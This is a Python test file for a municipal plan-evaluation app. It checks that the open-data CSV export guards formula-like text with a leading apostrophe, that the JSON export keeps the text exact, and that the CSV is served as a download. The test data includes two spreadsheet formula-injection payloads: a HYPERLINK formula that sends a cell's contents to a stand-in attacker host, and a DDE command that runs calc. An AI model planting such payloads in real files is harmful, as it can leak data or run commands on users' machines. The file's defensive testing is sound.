"""The open-data CSV is opened in spreadsheets: a published text that a spreadsheet would run
as a formula gets the 照会票's guard (a leading apostrophe), the file is a download, and the
JSON keeps the exact text."""

import csv
import io

from evaluations import services
from evaluations.choices import EntryState, Result
from tests.factories import make_initiative, make_plan, open_year_end_round

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
CALC = "+cmd|' /C calc'!A0"


def _publish(narratives: dict[str, str], title: str = "公共施設の見直し"):
    """A plan whose one initiative (named ``title``) is published with ``narratives``'
    reason and narrative."""
    plan = make_plan()
    make_initiative(plan, title=title)
    round_ = open_year_end_round(plan)
    entry = round_.entries.get()
    services.update_entry_as_system(
        entry_id=entry.pk,
        expected_version=entry.version,
        values={"result": Result.EXCLUDED, **narratives},
        state=EntryState.CONFIRMED,
    )
    services.publish_round_as_system(round_=round_)
    return plan, round_.fiscal_year


def _csv_record(client, plan, fiscal_year) -> tuple[dict, object]:
    response = client.get(f"/open-data/{plan.slug}/{fiscal_year}/results.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    return dict(zip(rows[0], rows[1], strict=True)), response


def test_a_published_formula_is_guarded_in_the_csv_and_exact_in_the_json(client, db):
    plan, fy = _publish({"narrative": LEAK, "reason": CALC}, title="@SUM(A1:A9)")
    record, _response = _csv_record(client, plan, fy)
    assert record["narrative"] == "'" + LEAK
    assert record["reason"] == "'" + CALC
    assert record["title"] == "'@SUM(A1:A9)"
    result = client.get(f"/open-data/{plan.slug}/{fy}/results.json").json()["results"][0]
    assert (result["narrative"], result["reason"], result["title"]) == (
        LEAK,
        CALC,
        "@SUM(A1:A9)",
    )


def test_every_formula_lead_is_guarded_and_other_text_is_left_alone(client, db):
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        plan, fy = _publish({"narrative": f"{lead}1+1", "reason": "理由"})
        record, _response = _csv_record(client, plan, fy)
        assert record["narrative"] == f"'{lead}1+1", repr(lead)
        assert record["reason"] == "理由"
    plan, fy = _publish({"narrative": "計画どおり実施した。=は途中にあってよい", "reason": "x"})
    record, _response = _csv_record(client, plan, fy)
    assert record["narrative"] == "計画どおり実施した。=は途中にあってよい"
    assert record["fiscal_year"] == str(fy)


def test_the_csv_is_a_download(client, db):
    plan, fy = _publish({"narrative": "ok", "reason": "x"})
    _record, response = _csv_record(client, plan, fy)
    assert response["Content-Disposition"] == (
        f'attachment; filename="{plan.slug}-{fy}-results.csv"'
    )


def test_the_open_data_page_documents_the_guard(client, db):
    ja = client.get("/open-data/").content.decode()
    assert "先頭に ' （アポストロフィ）を付けています" in ja
    en = client.get("/en/open-data/").content.decode()
    assert "is prefixed with ' (an apostrophe)" in en
